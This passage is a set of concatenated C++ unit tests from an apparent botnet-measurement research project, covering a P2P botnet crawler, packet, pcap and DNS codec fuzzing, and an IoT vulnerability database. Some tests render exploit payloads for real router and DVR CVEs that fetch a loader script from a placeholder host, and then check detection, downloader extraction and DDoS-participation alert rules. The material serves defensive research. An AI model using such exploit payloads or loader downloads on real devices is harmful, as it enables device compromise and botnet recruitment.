  cfg.availability = 0.6;  // churny overlay
  auto overlay = botnet::build_overlay(net, cfg);

  sim::Host crawler_host(net, net::Ipv4{192, 0, 2, 88});
  core::CrawlConfig ccfg;
  ccfg.retries_per_peer = 3;
  core::CrawlResult result;
  bool done = false;
  core::P2pCrawler crawler(crawler_host, overlay.bootstrap, ccfg,
                           [&](core::CrawlResult r) {
                             result = std::move(r);
                             done = true;
                           });
  crawler.start();
  sched.run_until(sched.now() + sim::Duration::hours(2));
  ASSERT_TRUE(done);
  EXPECT_GT(result.discovered.size(), 25u);  // most of the 40 despite churn
  EXPECT_LE(result.responsive.size(), result.discovered.size());
}

TEST(P2pCrawl, RespectsDiscoveryCap) {
  sim::EventScheduler sched;
  sim::Network net(sched);
  botnet::OverlayConfig cfg;
  cfg.node_count = 30;
  cfg.availability = 1.0;
  auto overlay = botnet::build_overlay(net, cfg);

  sim::Host crawler_host(net, net::Ipv4{192, 0, 2, 88});
  core::CrawlConfig ccfg;
  ccfg.max_peers = 10;
  core::CrawlResult result;
  bool done = false;
  core::P2pCrawler crawler(crawler_host, overlay.bootstrap, ccfg,
                           [&](core::CrawlResult r) {
                             result = std::move(r);
                             done = true;
                           });
  crawler.start();
  sched.run_until(sched.now() + sim::Duration::minutes(30));
  ASSERT_TRUE(done);
  EXPECT_LE(result.discovered.size(), 10u);  // hard cap
}

TEST(P2pProto, GetPeersRoundTrip) {
  const proto::p2p::GetPeers q{std::string(20, 'A'), "tx"};
  const auto decoded = proto::p2p::decode_get_peers(proto::p2p::encode_get_peers(q));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->node_id, q.node_id);
  EXPECT_EQ(decoded->txn, "tx");
  // A plain ping must NOT decode as get_peers and vice versa.
  const auto ping = proto::p2p::encode_ping({std::string(20, 'A'), "tx"});
  EXPECT_FALSE(proto::p2p::decode_get_peers(ping));
  EXPECT_FALSE(proto::p2p::decode_ping(proto::p2p::encode_get_peers(q)));
}

TEST(P2pProto, PeersReplyRoundTrip) {
  proto::p2p::PeersReply reply;
  reply.node_id = std::string(20, 'B');
  reply.txn = "zz";
  reply.peers = {{net::Ipv4{1, 2, 3, 4}, 6881}, {net::Ipv4{250, 9, 0, 255}, 65535}};
  const auto decoded =
      proto::p2p::decode_peers_reply(proto::p2p::encode_peers_reply(reply));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->peers, reply.peers);
  EXPECT_EQ(decoded->txn, "zz");
  EXPECT_FALSE(proto::p2p::decode_peers_reply(util::to_bytes("junk")));
}

TEST(RulesExport, AttackParticipationSignatures) {
  auto r = study_with_iocs();
  core::DdosRecord nurse;
  nurse.c2_address = "60.1.1.1";
  nurse.detection.command.type = proto::AttackType::kBlacknurse;
  nurse.detection.command.family = proto::Family::kDaddyl33t;
  r.d_ddos.push_back(nurse);
  core::DdosRecord vse = nurse;
  vse.detection.command.type = proto::AttackType::kVse;
  r.d_ddos.push_back(vse);

  const auto set = report::compile_exported_rules(r);
  net::Packet flood;
  flood.src = *net::parse_ipv4("192.168.1.9");
  flood.dst = *net::parse_ipv4("198.51.100.1");
  flood.proto = net::Protocol::kIcmp;
  flood.icmp = {3, 3};
  bool hit = false;
  for (const auto* rule : set.evaluate(flood).matched) hit |= rule->sid >= 3000000;
  EXPECT_TRUE(hit) << "BLACKNURSE participation must alert";

  net::Packet vse_pkt;
  vse_pkt.src = flood.src;
  vse_pkt.dst = flood.dst;
  vse_pkt.proto = net::Protocol::kUdp;
  vse_pkt.dst_port = 27015;
  vse_pkt.payload = emu::vse_payload();
  hit = false;
  for (const auto* rule : set.evaluate(vse_pkt).matched) hit |= rule->sid >= 3000000;
  EXPECT_TRUE(hit) << "VSE participation must alert";
}
