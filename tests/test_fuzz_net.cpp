// Property-based tests for the packet/pcap/DNS codecs and address parsers:
// round-trip laws for to_wire/from_wire, PcapWriter/read_pcap, dns
// encode/decode and the ipv4/subnet/endpoint string forms; no-crash laws
// over mutated corpus captures and random buffers; explicit error-path
// regressions (empty, 1-byte, lying length fields).
//
// Failures print a seed; rerun with MALNET_CHECK_SEED=<seed> to reproduce.
#include <gtest/gtest.h>

#include "dns/message.hpp"
#include "net/ipv4.hpp"
#include "net/packet.hpp"
#include "net/pcap.hpp"
#include "testkit/testkit.hpp"

using namespace malnet;
using namespace malnet::testkit;

namespace {

constexpr int kRoundTripCases = 1000;
constexpr int kNoCrashCases = 10'000;

Gen<net::Ipv4> ipv4s() {
  return ints<std::uint32_t>(0, 0xFFFFFFFF).map([](std::uint32_t v) {
    return net::Ipv4{v};
  });
}

/// A structurally valid Packet of any protocol. Protocol-irrelevant fields
/// stay at their defaults, mirroring what from_wire can reconstruct.
Gen<net::Packet> packets() {
  return apply(
      [](int proto, net::Ipv4 src, net::Ipv4 dst, net::Port sport,
         net::Port dport, std::uint32_t seq, std::uint32_t ack,
         std::uint8_t flag_bits, std::uint8_t icmp_type, std::uint8_t icmp_code,
         std::uint8_t ttl, util::Bytes payload) {
        net::Packet p;
        p.src = src;
        p.dst = dst;
        p.ttl = ttl;
        p.payload = std::move(payload);
        switch (proto) {
          case 0:
            p.proto = net::Protocol::kTcp;
            p.src_port = sport;
            p.dst_port = dport;
            p.seq = seq;
            p.ack_num = ack;
            p.flags = net::TcpFlags::from_byte(flag_bits);
            break;
          case 1:
            p.proto = net::Protocol::kUdp;
            p.src_port = sport;
            p.dst_port = dport;
            break;
          default:
            p.proto = net::Protocol::kIcmp;
            p.icmp = {icmp_type, icmp_code};
            break;
        }
        return p;
      },
      ints<int>(0, 2), ipv4s(), ipv4s(), ints<net::Port>(0, 0xFFFF),
      ints<net::Port>(0, 0xFFFF), ints<std::uint32_t>(0, 0xFFFFFFFF),
      ints<std::uint32_t>(0, 0xFFFFFFFF), ints<std::uint8_t>(0, 0x1F),
      any_byte(), any_byte(), ints<std::uint8_t>(1, 255), byte_strings(0, 256));
}

bool same_packet(const net::Packet& a, const net::Packet& b) {
  return a.src == b.src && a.dst == b.dst && a.proto == b.proto &&
         a.src_port == b.src_port && a.dst_port == b.dst_port &&
         a.flags.to_byte() == b.flags.to_byte() && a.seq == b.seq &&
         a.ack_num == b.ack_num && a.icmp.type == b.icmp.type &&
         a.icmp.code == b.icmp.code && a.ttl == b.ttl && a.payload == b.payload;
}

/// DNS names with 1–4 labels of 1–12 chars each: always encodable.
Gen<std::string> dns_names() {
  return vectors_of(ascii_strings(1, 12, "abcdefghijklmnopqrstuvwxyz0123456789-"),
                    1, 4)
      .map([](const std::vector<std::string>& labels) {
        std::string name;
        for (const auto& l : labels) {
          if (!name.empty()) name += '.';
          name += l;
        }
        return name;
      });
}

Gen<dns::Message> dns_messages() {
  const auto questions = apply(
      [](std::string name, std::uint16_t qtype, std::uint16_t qclass) {
        return dns::Question{std::move(name), qtype, qclass};
      },
      dns_names(), ints<std::uint16_t>(0, 0xFFFF), ints<std::uint16_t>(0, 0xFFFF));
  const auto answers = apply(
      [](std::string name, net::Ipv4 addr, std::uint32_t ttl) {
        return dns::Answer{std::move(name), addr, ttl};
      },
      dns_names(), ipv4s(), ints<std::uint32_t>(0, 0xFFFFFFFF));
  return apply(
      [](std::uint16_t id, int response, int rd, int rcode,
         std::vector<dns::Question> qs, std::vector<dns::Answer> as) {
        dns::Message m;
        m.id = id;
        m.is_response = response != 0;
        m.recursion_desired = rd != 0;
        m.rcode = static_cast<dns::Rcode>(rcode);
        m.questions = std::move(qs);
        m.answers = std::move(as);
        return m;
      },
      ints<std::uint16_t>(0, 0xFFFF), ints<int>(0, 1), ints<int>(0, 1),
      ints<int>(0, 3), vectors_of(questions, 0, 3), vectors_of(answers, 0, 3));
}

bool same_question(const dns::Question& a, const dns::Question& b) {
  return a.name == b.name && a.qtype == b.qtype && a.qclass == b.qclass;
}

bool same_answer(const dns::Answer& a, const dns::Answer& b) {
  return a.name == b.name && a.address == b.address && a.ttl == b.ttl;
}

bool same_message(const dns::Message& a, const dns::Message& b) {
  if (a.id != b.id || a.is_response != b.is_response ||
      a.recursion_desired != b.recursion_desired || a.rcode != b.rcode ||
      a.questions.size() != b.questions.size() ||
      a.answers.size() != b.answers.size()) {
    return false;
  }
  for (std::size_t i = 0; i < a.questions.size(); ++i) {
    if (!same_question(a.questions[i], b.questions[i])) return false;
  }
  for (std::size_t i = 0; i < a.answers.size(); ++i) {
    if (!same_answer(a.answers[i], b.answers[i])) return false;
  }
  return true;
}

/// Mutation-fuzz driver shared by the no-crash suites below.
template <typename Prop>
CheckResult fuzz_decoder(const std::string& corpus_prefix, Prop prop,
                         std::string name) {
  const auto corpus = corpus_inputs(corpus_prefix);
  const Mutator mutator;
  CheckConfig cfg;
  cfg.cases = kNoCrashCases;
  cfg.name = std::move(name);
  const auto inputs =
      apply(
          [&corpus](std::uint64_t pick, int which, util::Bytes noise) {
            return which == 0 ? noise : corpus[pick % corpus.size()];
          },
          ints<std::uint64_t>(0, 1'000'000), ints<int>(0, 7),
          byte_strings(0, 256))
          .map([&mutator](util::Bytes base) {
            util::Rng mrng(util::fnv1a64(util::to_hex(base)), 17);
            return mutator.mutate(base, mrng);
          });
  return check(inputs, prop, cfg);
}

}  // namespace

// --- round-trip laws ---------------------------------------------------------

TEST(RoundTrip, PacketWire) {
  CheckConfig cfg;
  cfg.cases = kRoundTripCases;
  cfg.name = "packet wire round-trip";
  const auto r = check(packets(),
                       [](const net::Packet& p) {
                         const auto decoded = net::from_wire(net::to_wire(p));
                         return decoded && same_packet(*decoded, p);
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(RoundTrip, PcapPreservesPacketsAndTimestamps) {
  CheckConfig cfg;
  cfg.cases = 200;  // each case writes and re-reads a whole capture
  cfg.name = "pcap round-trip";
  const auto gen = pair_of(vectors_of(packets(), 0, 8),
                           ints<std::int64_t>(0, 4'000'000'000'000));
  const auto r = check(
      gen,
      [](const std::pair<std::vector<net::Packet>, std::int64_t>& input) {
        auto [pkts, base_us] = input;
        net::PcapWriter w;
        for (std::size_t i = 0; i < pkts.size(); ++i) {
          // Distinct micro-resolution timestamps per packet.
          pkts[i].time = util::SimTime{base_us + static_cast<std::int64_t>(i) * 1'000'003};
          w.add(pkts[i]);
        }
        const auto back = net::read_pcap(w.bytes());
        if (back.size() != pkts.size()) return false;
        for (std::size_t i = 0; i < pkts.size(); ++i) {
          if (back[i].time != pkts[i].time) return false;
          if (!same_packet(back[i], pkts[i])) return false;
        }
        return true;
      },
      cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(RoundTrip, DnsMessages) {
  CheckConfig cfg;
  cfg.cases = kRoundTripCases;
  cfg.name = "dns round-trip";
  const auto r = check(dns_messages(),
                       [](const dns::Message& m) {
                         const auto decoded = dns::decode(dns::encode(m));
                         return decoded && same_message(*decoded, m);
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(RoundTrip, AddressStringForms) {
  CheckConfig cfg;
  cfg.cases = kRoundTripCases;
  cfg.name = "address string round-trip";
  const auto gen = apply(
      [](net::Ipv4 ip, int prefix, net::Port port) {
        return std::pair{net::Subnet{ip, prefix}, net::Endpoint{ip, port}};
      },
      ipv4s(), ints<int>(0, 32), ints<net::Port>(0, 0xFFFF));
  const auto r = check(gen,
                       [](const std::pair<net::Subnet, net::Endpoint>& input) {
                         const auto& [subnet, ep] = input;
                         const auto ip = net::parse_ipv4(net::to_string(ep.ip));
                         const auto sn = net::parse_subnet(net::to_string(subnet));
                         const auto e = net::parse_endpoint(net::to_string(ep));
                         return ip && *ip == ep.ip && sn && *sn == subnet && e &&
                                *e == ep;
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

// --- no-crash laws -----------------------------------------------------------

TEST(NoCrash, PacketFromWire) {
  const auto r = fuzz_decoder("packet_",
                              [](util::BytesView wire) {
                                (void)net::from_wire(wire);
                                return true;
                              },
                              "packet no-crash");
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(NoCrash, ReadPcapThrowsOnlyTruncatedInput) {
  // read_pcap's documented error contract is util::TruncatedInput; anything
  // else escaping (bad_alloc from a lying record length, OOB under ASan)
  // fails the property.
  const auto r = fuzz_decoder("mini.pcap",
                              [](util::BytesView data) {
                                try {
                                  (void)net::read_pcap(data);
                                } catch (const util::TruncatedInput&) {
                                }
                                return true;
                              },
                              "pcap no-crash");
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(NoCrash, DnsDecode) {
  const auto r = fuzz_decoder("dns_",
                              [](util::BytesView wire) {
                                (void)dns::decode(wire);
                                return true;
                              },
                              "dns no-crash");
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(NoCrash, AddressParsers) {
  CheckConfig cfg;
  cfg.cases = kNoCrashCases;
  cfg.name = "address parser no-crash";
  const auto r = check(raw_strings(0, 48),
                       [](const std::string& s) {
                         (void)net::parse_ipv4(s);
                         (void)net::parse_subnet(s);
                         (void)net::parse_endpoint(s);
                         return true;
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

// --- error paths -------------------------------------------------------------

TEST(ErrorPath, PacketEmptyAndTinyBuffers) {
  const std::vector<util::Bytes> minima = {{}, {0x45}, {0x00}, {0xFF}};
  const auto r = check_each(minima,
                            [](util::BytesView wire) {
                              return !net::from_wire(wire).has_value();
                            },
                            "packet empty/1-byte");
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(ErrorPath, PacketLyingLengthFields) {
  net::Packet p;
  p.proto = net::Protocol::kUdp;
  p.src = net::Ipv4{10, 0, 0, 1};
  p.dst = net::Ipv4{10, 0, 0, 2};
  p.payload = util::Bytes{0xAA, 0xBB};
  auto wire = net::to_wire(p);

  // IPv4 total_length larger than the buffer.
  auto oversize = wire;
  oversize[2] = 0xFF;
  oversize[3] = 0xFF;
  EXPECT_FALSE(net::from_wire(oversize));

  // UDP length field larger than the remaining segment.
  auto bad_udp = wire;
  bad_udp[24] = 0xFF;  // udp length hi byte (ihl 20 + 4)
  bad_udp[25] = 0xFF;
  EXPECT_FALSE(net::from_wire(bad_udp));

  // IHL pointing past the end of the packet.
  auto bad_ihl = wire;
  bad_ihl[0] = 0x4F;  // IHL 15 words = 60 bytes of header
  EXPECT_FALSE(net::from_wire(bad_ihl));
}

TEST(ErrorPath, TcpDataOffsetOutOfRange) {
  net::Packet p;
  p.proto = net::Protocol::kTcp;
  p.src = net::Ipv4{10, 0, 0, 1};
  p.dst = net::Ipv4{10, 0, 0, 2};
  p.flags.syn = true;
  auto wire = net::to_wire(p);
  // Data offset 15 words (60B) in a 20-byte segment.
  wire[32] = 0xF0;
  EXPECT_FALSE(net::from_wire(wire));
  // Data offset below the TCP minimum of 5 words.
  wire[32] = 0x10;
  EXPECT_FALSE(net::from_wire(wire));
}

TEST(ErrorPath, PcapTruncationsThrowTruncatedInput) {
  const auto pcap = corpus_file("mini.pcap");
  EXPECT_THROW((void)net::read_pcap({}), util::TruncatedInput);
  EXPECT_THROW((void)net::read_pcap(util::Bytes{0xA1}), util::TruncatedInput);
  // Valid global header, then a record header whose incl_len lies.
  auto lying = pcap;
  lying[24 + 8] = 0xFF;  // first record's incl_len (big-endian hi byte)
  EXPECT_THROW((void)net::read_pcap(lying), util::TruncatedInput);
  // A capture cut mid-record.
  const util::Bytes cut(pcap.begin(),
                        pcap.begin() + static_cast<std::ptrdiff_t>(pcap.size() - 3));
  EXPECT_THROW((void)net::read_pcap(cut), util::TruncatedInput);
}

TEST(ErrorPath, DnsMalformedCounts) {
  const std::vector<util::Bytes> minima = {{}, {0x00}};
  const auto r = check_each(minima,
                            [](util::BytesView wire) {
                              return !dns::decode(wire).has_value();
                            },
                            "dns empty/1-byte");
  EXPECT_TRUE(r.ok) << r.summary();

  // QDCOUNT=0xFFFF with no question section must reject, not loop or scan.
  auto header = util::from_hex("0001 0100 ffff 0000 0000 0000");
  EXPECT_FALSE(dns::decode(header));
  // A label length of 70 (> 63) is malformed.
  const auto q = dns::encode(dns::make_query(7, "evil.example"));
  auto bad_label = q;
  bad_label[12] = 70;
  EXPECT_FALSE(dns::decode(bad_label));
  // Compression pointers are rejected by contract.
  auto pointer = q;
  pointer[12] = 0xC0;
  EXPECT_FALSE(dns::decode(pointer));
}
