#include <gtest/gtest.h>

#include <set>

#include "vulndb/vulndb.hpp"

using namespace malnet;
using namespace malnet::vulndb;

TEST(VulnDb, HasAllTable4Entries) {
  const auto& db = VulnDatabase::instance();
  EXPECT_EQ(db.all().size(), kVulnCount);
  // Paper rows 1..12 all present (row 1 covers both GPON CVEs).
  std::set<int> rows;
  for (const auto& v : db.all()) rows.insert(v.paper_row);
  for (int r = 1; r <= 12; ++r) EXPECT_TRUE(rows.count(r)) << "missing row " << r;
}

TEST(VulnDb, Table4SampleCountsPreserved) {
  const auto& db = VulnDatabase::instance();
  EXPECT_EQ(db.by_id(VulnId::kGpon10561).paper_samples, 139);
  EXPECT_EQ(db.by_id(VulnId::kGpon10562).paper_samples, 129);
  EXPECT_EQ(db.by_id(VulnId::kDlinkHnap).paper_samples, 132);
  EXPECT_EQ(db.by_id(VulnId::kMvpowerDvr).paper_samples, 74);
  EXPECT_EQ(db.by_id(VulnId::kHuaweiHg532).paper_samples, 1);
}

TEST(VulnDb, CveLookup) {
  const auto& db = VulnDatabase::instance();
  const auto* v = db.by_cve("cve-2018-10561");
  ASSERT_NE(v, nullptr);
  EXPECT_EQ(v->id, VulnId::kGpon10561);
  EXPECT_EQ(db.by_cve("CVE-1999-0001"), nullptr);
}

TEST(VulnDb, NoSingleSourceCoversEverything) {
  // §4 Q6: NVD, EDB and OpenVAS each miss some exploited vulnerability.
  const auto& db = VulnDatabase::instance();
  bool nvd_all = true, edb_all = true, openvas_all = true;
  for (const auto& v : db.all()) {
    nvd_all &= v.in_nvd;
    edb_all &= v.in_edb;
    openvas_all &= v.in_openvas;
  }
  EXPECT_FALSE(nvd_all);
  EXPECT_FALSE(edb_all);
  EXPECT_FALSE(openvas_all);
  // But the union covers all.
  for (const auto& v : db.all()) {
    EXPECT_TRUE(v.in_nvd || v.in_edb || v.in_openvas) << v.name;
  }
}

TEST(VulnDb, AgeProfileMatchesSection4) {
  // "9 of them more than 4 years old, while the most recent one was 5
  // months old" — reproduced exactly when ages are taken at the paper's
  // May 7 2022 re-query date (study day 404) over the 13 table entries.
  const auto& db = VulnDatabase::instance();
  int old_entries = 0;
  double newest_age = 1e9;
  for (const auto& v : db.all()) {
    const double age = v.age_years_at(404);
    if (age > 4.0) ++old_entries;
    newest_age = std::min(newest_age, age);
  }
  EXPECT_EQ(old_entries, 9);
  EXPECT_NEAR(newest_age * 12.0, 5.0, 1.0);  // DIR-820L, ~4.6 months
}

TEST(VulnDb, MitigationDistribution) {
  // §4 via vuldb: official fixes for 3, firewall-only for 5, replacement 2.
  const auto& db = VulnDatabase::instance();
  int fix = 0, firewall = 0, replace = 0;
  for (const auto& v : db.all()) {
    switch (v.mitigation) {
      case Mitigation::kOfficialFix: ++fix; break;
      case Mitigation::kFirewallOnly: ++firewall; break;
      case Mitigation::kReplaceDevice: ++replace; break;
      case Mitigation::kUnknown: break;
    }
  }
  EXPECT_EQ(fix, 3);
  EXPECT_GE(firewall, 5);
  EXPECT_EQ(replace, 2);
}

TEST(VulnDb, LoaderCatalogMatchesFigure9) {
  const auto& loaders = VulnDatabase::instance().loaders();
  ASSERT_EQ(loaders.size(), 7u);
  EXPECT_EQ(loaders.front().name, "t8UsA2.sh");
  EXPECT_DOUBLE_EQ(loaders.front().weight, 14.0);
  // Device-affine loaders point at real exploits.
  bool zyxel_affinity = false;
  for (const auto& l : loaders) {
    if (l.name == "zyxel.sh") {
      ASSERT_TRUE(l.affinity);
      EXPECT_EQ(*l.affinity, VulnId::kZyxel);
      zyxel_affinity = true;
    }
  }
  EXPECT_TRUE(zyxel_affinity);
}

TEST(VulnDb, ExploitPortsAreTheRealWorldOnes) {
  const auto& db = VulnDatabase::instance();
  EXPECT_EQ(db.by_id(VulnId::kHuaweiHg532).port, 37215);
  EXPECT_EQ(db.by_id(VulnId::kMvpowerDvr).port, 60001);
  EXPECT_EQ(db.by_id(VulnId::kEirD1000).port, 7547);
  EXPECT_EQ(db.by_id(VulnId::kGpon10561).port, 8080);
  const auto ports = db.exploit_ports();
  EXPECT_GE(ports.size(), 5u);
}

// Parameterized: every vulnerability's template must render, self-match and
// yield its downloader back.
class VulnTemplate : public ::testing::TestWithParam<VulnId> {};

TEST_P(VulnTemplate, RenderMatchExtractRoundTrip) {
  const auto& db = VulnDatabase::instance();
  const auto id = GetParam();
  const std::string payload = db.render_exploit(id, "203.0.113.77", "t8UsA2.sh");
  EXPECT_EQ(payload.find("{DL}"), std::string::npos);
  EXPECT_EQ(payload.find("{LOADER}"), std::string::npos);

  const auto* matched = db.match_payload(util::to_bytes(payload));
  ASSERT_NE(matched, nullptr);
  EXPECT_EQ(matched->id, id) << "payload for " << to_string(id)
                             << " misattributed to " << matched->name;

  const auto dl = db.extract_downloader(util::to_bytes(payload));
  ASSERT_TRUE(dl) << "no downloader extracted for " << to_string(id);
  EXPECT_EQ(dl->host, "203.0.113.77");
  EXPECT_EQ(dl->loader, "t8UsA2.sh");
}

INSTANTIATE_TEST_SUITE_P(
    AllVulns, VulnTemplate,
    ::testing::Values(VulnId::kGpon10561, VulnId::kGpon10562, VulnId::kDlinkHnap,
                      VulnId::kZyxel, VulnId::kVacron, VulnId::kHuaweiHg532,
                      VulnId::kMvpowerDvr, VulnId::kDir820, VulnId::kLinksys,
                      VulnId::kEirD1000, VulnId::kThinkPhp, VulnId::kNuuo,
                      VulnId::kNetlinkGpon),
    [](const auto& info) {
      std::string name = to_string(info.param);
      for (auto& c : name) {
        if (!std::isalnum(static_cast<unsigned char>(c))) c = '_';
      }
      return name;
    });

TEST(VulnDb, MatchRejectsBenignPayloads) {
  const auto& db = VulnDatabase::instance();
  EXPECT_EQ(db.match_payload(util::to_bytes("GET / HTTP/1.1\r\n\r\n")), nullptr);
  EXPECT_EQ(db.match_payload(util::to_bytes("root\r\nvizxv\r\n")), nullptr);
  EXPECT_EQ(db.match_payload(util::Bytes{}), nullptr);
}

TEST(VulnDb, ExtractIgnoresNonIpHosts) {
  // The HNAP SOAPAction contains http://purenetworks.com/... — extraction
  // must skip it and find the IP-literal downloader.
  const auto& db = VulnDatabase::instance();
  const auto payload = db.render_exploit(VulnId::kDlinkHnap, "10.1.2.3", "x.sh");
  const auto dl = db.extract_downloader(util::to_bytes(payload));
  ASSERT_TRUE(dl);
  EXPECT_EQ(dl->host, "10.1.2.3");
}
