#include <gtest/gtest.h>

#include "asdb/asdb.hpp"

using namespace malnet;
using namespace malnet::asdb;

TEST(AsDatabase, StandardContainsTable2) {
  const auto db = AsDatabase::standard();
  for (const auto asn : AsDatabase::table2_asns()) {
    const auto* info = db.by_asn(asn);
    ASSERT_NE(info, nullptr) << "missing Table 2 ASN " << asn;
  }
  // Spot-check Table 2 metadata.
  EXPECT_EQ(db.by_asn(36352)->name, "ColoCrossing");
  EXPECT_EQ(db.by_asn(36352)->country, "US");
  EXPECT_TRUE(db.by_asn(36352)->anti_ddos);
  EXPECT_EQ(db.by_asn(16276)->name, "OVH SAS");
  EXPECT_EQ(db.by_asn(16276)->country, "FR");
  EXPECT_FALSE(db.by_asn(139884)->anti_ddos);  // Apeiron Global: "No"
  EXPECT_FALSE(db.by_asn(211252)->anti_ddos);  // Delis LLC: N/A -> false
}

TEST(AsDatabase, StandardSizeCoversFig13Population) {
  const auto db = AsDatabase::standard();
  EXPECT_GE(db.size(), 128u);  // Figure 13: 128 ASes host C2s
}

TEST(AsDatabase, CryptoPaymentProviders) {
  // §3.1: "30% of these providers (AS53667, AS202306 and AS44812) accept
  // cryptocurrency payments".
  const auto db = AsDatabase::standard();
  int crypto = 0;
  for (const auto asn : AsDatabase::table2_asns()) {
    if (db.by_asn(asn)->crypto_pay) ++crypto;
  }
  EXPECT_EQ(crypto, 3);
  EXPECT_TRUE(db.by_asn(53667)->crypto_pay);
  EXPECT_TRUE(db.by_asn(202306)->crypto_pay);
  EXPECT_TRUE(db.by_asn(44812)->crypto_pay);
}

TEST(AsDatabase, Top100CloudsPresent) {
  // Appendix A: Google, Amazon and Alibaba are among the top-100 ASes.
  const auto db = AsDatabase::standard();
  for (const std::uint32_t asn : {15169u, 16509u, 37963u}) {
    const auto* info = db.by_asn(asn);
    ASSERT_NE(info, nullptr);
    EXPECT_TRUE(info->top100_size);
  }
  // None of the top-10 C2 hosters are top-100 (§3.1).
  for (const auto asn : AsDatabase::table2_asns()) {
    EXPECT_FALSE(db.by_asn(asn)->top100_size);
  }
}

TEST(AsDatabase, VictimPopulationShape) {
  const auto db = AsDatabase::standard();
  int gaming = 0;
  bool has_roblox = false, has_nfo = false;
  for (const auto& as : db.all()) {
    if (as.gaming) ++gaming;
    if (as.name == "Roblox") has_roblox = true;
    if (as.name == "NFOservers") has_nfo = true;
  }
  EXPECT_GE(gaming, 4);  // §5.3: gaming-specialised AS population
  EXPECT_TRUE(has_roblox);
  EXPECT_TRUE(has_nfo);
}

TEST(AsDatabase, IpLookupMatchesAsn) {
  const auto db = AsDatabase::standard();
  util::Rng rng(1);
  for (const auto asn : AsDatabase::table2_asns()) {
    for (int i = 0; i < 5; ++i) {
      const auto ip = db.random_ip_in(asn, rng);
      const auto* info = db.by_ip(ip);
      ASSERT_NE(info, nullptr);
      EXPECT_EQ(info->asn, asn);
    }
  }
}

TEST(AsDatabase, UnknownLookups) {
  const auto db = AsDatabase::standard();
  EXPECT_EQ(db.by_asn(424242), nullptr);
  EXPECT_EQ(db.by_ip(net::Ipv4{192, 0, 2, 1}), nullptr);
  util::Rng rng(1);
  EXPECT_THROW((void)db.random_ip_in(424242, rng), std::invalid_argument);
}

TEST(AsDatabase, RejectsOverlapsAndDuplicates) {
  AsDatabase db;
  AsInfo a;
  a.asn = 1;
  a.name = "A";
  a.prefixes = {net::Subnet{net::Ipv4{10, 0, 0, 0}, 16}};
  db.add(a);

  AsInfo dup = a;
  dup.prefixes = {net::Subnet{net::Ipv4{11, 0, 0, 0}, 16}};
  EXPECT_THROW(db.add(dup), std::invalid_argument);  // duplicate ASN

  AsInfo overlap;
  overlap.asn = 2;
  overlap.name = "B";
  overlap.prefixes = {net::Subnet{net::Ipv4{10, 0, 128, 0}, 24}};  // inside A
  EXPECT_THROW(db.add(overlap), std::invalid_argument);

  AsInfo empty;
  empty.asn = 3;
  EXPECT_THROW(db.add(empty), std::invalid_argument);
}

TEST(AsDatabase, RandomIpAvoidsNetworkAndBroadcast) {
  const auto db = AsDatabase::standard();
  util::Rng rng(2);
  for (int i = 0; i < 200; ++i) {
    const auto ip = db.random_ip_in(36352, rng);
    const auto* info = db.by_ip(ip);
    ASSERT_NE(info, nullptr);
    bool is_boundary = false;
    for (const auto& p : info->prefixes) {
      if (ip == p.host(0) || ip == p.host(p.size() - 1)) is_boundary = true;
    }
    EXPECT_FALSE(is_boundary);
  }
}
