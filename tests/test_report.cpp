// Report module: renderers, summary statistics and table/figure emitters on
// synthetic and pipeline-produced datasets.
#include <gtest/gtest.h>

#include "core/pipeline.hpp"
#include "report/figures.hpp"
#include "report/render.hpp"
#include "report/summary.hpp"
#include "report/claims.hpp"
#include "report/dataset_io.hpp"
#include "report/digest.hpp"
#include "report/dossier.hpp"
#include "report/export_series.hpp"
#include "report/tables.hpp"
#include <fstream>

using namespace malnet;
using namespace malnet::report;

// --- renderers ------------------------------------------------------------------

TEST(Render, TextTableAlignsColumns) {
  TextTable t({"Name", "N"});
  t.row({"short", "1"});
  t.row({"a-much-longer-name", "22"});
  const auto out = t.render();
  EXPECT_NE(out.find("Name"), std::string::npos);
  EXPECT_NE(out.find("a-much-longer-name  22"), std::string::npos);
  EXPECT_THROW(t.row({"only-one-cell"}), std::invalid_argument);
  EXPECT_THROW(TextTable({}), std::invalid_argument);
}

TEST(Render, CdfOutput) {
  util::Cdf c;
  for (double x : {1.0, 1.0, 2.0, 10.0}) c.add(x);
  const auto out = render_cdf(c, "days");
  EXPECT_NE(out.find("CDF of days"), std::string::npos);
  EXPECT_NE(out.find("n=4"), std::string::npos);
  EXPECT_NE(out.find("100.0%"), std::string::npos);
  EXPECT_NE(render_cdf(util::Cdf{}, "empty").find("empty"), std::string::npos);
}

TEST(Render, BarsScaleToMax) {
  const auto out = render_bars({{"a", 10.0}, {"b", 5.0}}, 10);
  EXPECT_NE(out.find("##########"), std::string::npos);
  EXPECT_NE(out.find("#####"), std::string::npos);
}

TEST(Render, HeatmapAndRaster) {
  const auto hm = render_heatmap({"row1"}, {{0.0, 5.0, 10.0}});
  EXPECT_NE(hm.find("row1"), std::string::npos);
  EXPECT_NE(hm.find('@'), std::string::npos);  // max density glyph
  const auto rs = render_raster({"srv"}, {{true, false, true}});
  EXPECT_NE(rs.find("#.#"), std::string::npos);
  EXPECT_THROW(render_raster({"a", "b"}, {{true}}), std::invalid_argument);
}

// --- summary stats on a handcrafted dataset --------------------------------------

namespace {
core::StudyResults tiny_results() {
  core::StudyResults r;
  core::C2Record live;
  live.address = "60.1.1.1";
  live.ip = *net::parse_ipv4("60.1.1.1");
  live.discovery_day = 3;
  live.referred_days = {3, 4, 7};
  live.live_days = {3, 7};
  live.distinct_samples = 3;
  live.vt_malicious_same_day = true;
  live.vt_vendors_same_day = 4;
  live.vt_malicious_requery = true;
  live.asn = 36352;
  r.d_c2s[live.address] = live;

  core::C2Record dead;
  dead.address = "60.2.2.2";
  dead.ip = *net::parse_ipv4("60.2.2.2");
  dead.discovery_day = 5;
  dead.referred_days = {5};
  dead.distinct_samples = 1;
  dead.vt_malicious_requery = true;
  dead.asn = 14061;
  r.d_c2s[dead.address] = dead;

  core::SampleRecord s1;
